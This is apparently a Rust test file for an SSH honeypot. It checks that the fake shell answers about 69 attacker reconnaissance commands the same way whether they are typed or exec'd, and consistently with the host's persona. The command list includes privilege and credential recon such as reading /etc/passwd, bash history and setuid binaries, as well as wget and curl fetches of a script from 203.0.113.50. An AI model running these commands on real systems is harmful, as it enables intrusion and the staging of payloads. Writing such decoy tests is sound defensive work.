//! The fake shell under the recon that bots and people run after a login: 69 commands
//! (system, users, network, processes, files, downloads), each typed at the prompt of one
//! interactive session and each run again as an exec request (`ssh host 'cmd'`), through
//! the real OpenSSH client. Every command exists, typed and exec'd answers agree, and the
//! answers agree with one another and with the persona: host name, addresses, routes, OS,
//! CPU and memory figures, user, processes and listening sockets.

#![allow(clippy::unwrap_used, clippy::expect_used)] // Tests fail loudly by design.

mod common;

use std::collections::BTreeMap;

use common::{Decoy, QUIET, drive, loopback, ssh};
use serde_json::json;

const RECON: &[&str] = &[
    // system
    "uname -a",
    "uname -r",
    "uname -m",
    "uname -n",
    "hostname",
    "cat /etc/hostname",
    "cat /etc/os-release",
    "cat /etc/issue",
    "cat /proc/version",
    "uptime",
    "cat /proc/uptime",
    "nproc",
    "cat /proc/cpuinfo",
    "lscpu",
    "free",
    "free -m",
    "free -h",
    "cat /proc/meminfo",
    "df -h",
    "df",
    "mount",
    "lsblk",
    "arch",
    "date",
    // users
    "whoami",
    "id",
    "groups",
    "w",
    "who",
    "last",
    "cat /etc/passwd",
    "cat /etc/group",
    "getent passwd",
    "sudo -l",
    "echo $USER",
    "echo $HOME",
    "env",
    "crontab -l",
    "ls -la /home",
    "ls -la ~",
    // network
    "ip a",
    "ip addr show",
    "ip route",
    "ip r",
    "ip neigh",
    "arp -a",
    "ifconfig",
    "hostname -I",
    "cat /etc/hosts",
    "cat /etc/resolv.conf",
    "ss -tlnp",
    "netstat -tlnp",
    // processes
    "ps aux",
    "ps -ef",
    "top -bn1",
    "pgrep sshd",
    "pidof sshd",
    "systemctl list-units --type=service",
    "service --status-all",
    // files
    "ls /",
    "ls -la /tmp",
    "cat ~/.bash_history",
    "find / -perm -4000 -type f",
    "cat /etc/crontab",
    "ls /var/www/html",
    "which python3 perl wget curl",
    // downloads (outside the maze: recorded, never fetched)
    "wget http://203.0.113.50/x.sh",
    "curl -O http://203.0.113.50/x.sh",
    "curl -s http://203.0.113.50/x.sh",
];

/// Answers that change from one second to the next.
const VOLATILE: &[&str] =
    &["uptime", "cat /proc/uptime", "date", "w", "top -bn1", "ps aux", "ps -ef", "wget http://203.0.113.50/x.sh"];

/// The `inet` addresses in `ip a` or `ifconfig` output, loopback left out.
fn inet(text: &str) -> Vec<String> {
    let mut found: Vec<String> = text
        .lines()
        .filter_map(|l| l.trim().strip_prefix("inet "))
        .map(|rest| rest.split(['/', ' ']).next().unwrap().to_owned())
        .filter(|ip| ip != "127.0.0.1")
        .collect();
    found.sort();
    found
}

fn field<'a>(text: &'a str, key: &str) -> &'a str {
    text.lines().find_map(|l| l.strip_prefix(key)).map(str::trim).unwrap_or_else(|| panic!("no {key} in {text}"))
}

#[test]
fn sixty_recon_commands_typed_and_execd_tell_one_consistent_story() {
    assert!(RECON.len() >= 60);
    let mut decoy = Decoy::start("ssh", &format!("{}:0", loopback()), None, &[("DECNET_DISTRO", "ubuntu22")]);
    let prompt = "root@decky-007:~# ";
    // Typed, one interactive session.
    let mut steps = vec![json!(["password: ", "admin\r"])];
    steps.extend(RECON.iter().map(|c| json!([prompt, format!("{c}\r")])));
    steps.push(json!([prompt, "exit\r"]));
    let mut args: Vec<String> = QUIET.iter().map(|s| (*s).to_owned()).collect();
    args.extend(["-tt", "-o", "PreferredAuthentications=password", "-p"].map(String::from));
    args.push(decoy.addr.port().to_string());
    args.push(format!("root@{}", decoy.addr.ip()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, said) = drive(json!(steps), "ssh", &args);
    assert_eq!(code, Some(0), "every prompt came back: {said}");
    let said = said.replace("\r\n", "\n");
    let mut typed: BTreeMap<&str, String> = BTreeMap::new();
    for (command, chunk) in RECON.iter().zip(said.split(prompt).skip(1)) {
        let output = chunk.strip_prefix(command).unwrap_or(chunk).trim_start_matches('\n');
        typed.insert(command, output.to_owned());
    }
    assert_eq!(typed.len(), RECON.len());

    // Exec'd, one connection each, as bots do; the same answers.
    for command in RECON {
        let (_, execd) = ssh(&decoy, "root", "admin", &[], &[command], None);
        let execd = execd.replace("\r\n", "\n");
        assert!(!execd.contains("command not found"), "{command}: {execd}");
        if !VOLATILE.contains(command) {
            assert_eq!(execd.trim_end(), typed[command].trim_end(), "{command}: typed and exec'd differ");
        }
    }
    let out = |command: &str| typed[command].as_str();
    for (command, output) in &typed {
        assert!(!output.contains("command not found"), "{command}: {output}");
    }

    // Host name: one name everywhere.
    for command in ["hostname", "uname -n", "cat /etc/hostname"] {
        assert_eq!(out(command).trim(), "decky-007", "{command}");
    }
    assert!(out("uname -a").contains(" decky-007 "));
    assert!(out("cat /etc/hosts").lines().any(|l| l.ends_with("decky-007")));
    // Addresses: ip a, ifconfig, hostname -I and /etc/hosts name the same ones.
    let addresses = inet(out("ip a"));
    assert_eq!(addresses, vec![decoy.addr.ip().to_string()]);
    assert_eq!(inet(out("ifconfig")), addresses);
    assert_eq!(inet(out("ip addr show")), addresses);
    assert_eq!(out("hostname -I").split_whitespace().collect::<Vec<_>>(), addresses);
    assert!(addresses.iter().all(|a| out("cat /etc/hosts").contains(a.as_str())));
    // Routes: the default gateway is on the decky's own subnet.
    assert_eq!(out("ip route"), out("ip r"));
    let gateway = field(out("ip route"), "default via ").split(' ').next().unwrap();
    let prefix = |ip: &str| ip.rsplit_once('.').unwrap().0.to_owned();
    assert_eq!(prefix(gateway), prefix(&addresses[0]));
    // OS: kernel and distribution agree across uname, /proc/version, os-release and issue.
    let release = out("uname -r").trim().to_owned();
    assert!(out("cat /proc/version").contains(&release) && out("uname -a").contains(&release));
    assert!(out("cat /etc/os-release").contains("VERSION_CODENAME=jammy"));
    assert!(out("cat /etc/issue").starts_with("Ubuntu 22.04"));
    assert_eq!(out("uname -m").trim(), "x86_64");
    assert_eq!(out("arch").trim(), "x86_64");
    // CPU: nproc, /proc/cpuinfo and lscpu count the same CPUs.
    let cpus: usize = out("nproc").trim().parse().unwrap();
    assert_eq!(out("cat /proc/cpuinfo").matches("processor\t:").count(), cpus);
    assert_eq!(field(out("lscpu"), "CPU(s):").parse::<usize>().unwrap(), cpus);
    // Memory: free (KiB and MiB) and /proc/meminfo give one total.
    let total_kib: u64 = field(out("free"), "Mem:").split_whitespace().next().unwrap().parse().unwrap();
    let meminfo: u64 = field(out("cat /proc/meminfo"), "MemTotal:").trim_end_matches("kB").trim().parse().unwrap();
    assert_eq!(total_kib, meminfo);
    let total_mib: u64 = field(out("free -m"), "Mem:").split_whitespace().next().unwrap().parse().unwrap();
    assert_eq!(total_mib, total_kib / 1024);
    assert!(out("top -bn1").contains(&format!("{:.1} total", total_kib as f64 / 1024.0)));
    // The user: root everywhere.
    assert_eq!(out("whoami").trim(), "root");
    assert_eq!(out("echo $USER").trim(), "root");
    assert_eq!(out("echo $HOME").trim(), "/root");
    assert!(out("id").starts_with("uid=0(root)"));
    assert_eq!(out("groups").trim(), "root");
    assert!(out("env").contains("USER=root") && out("env").contains("HOME=/root"));
    // Processes: what pgrep finds is in ps, and sshd listens on 22.
    let sshd = out("pgrep sshd").trim().to_owned();
    assert_eq!(out("pidof sshd").trim(), sshd);
    assert!(out("ps aux").lines().any(|l| l.contains("sshd") && l.split_whitespace().nth(1) == Some(sshd.as_str())));
    assert!(out("ss -tlnp").contains(":22 ") && out("netstat -tlnp").contains(":22 "));
    // Downloads outside the maze fail as a firewalled host's would, and are recorded.
    assert!(out("curl -s http://203.0.113.50/x.sh").contains("Failed to connect to 203.0.113.50 port 80"));
    assert!(out("wget http://203.0.113.50/x.sh").contains("Connecting to 203.0.113.50:80... failed"));
    decoy.wait_kind("command", |e| e["details"]["fetch"] == json!(["http://203.0.113.50/x.sh"]));
}
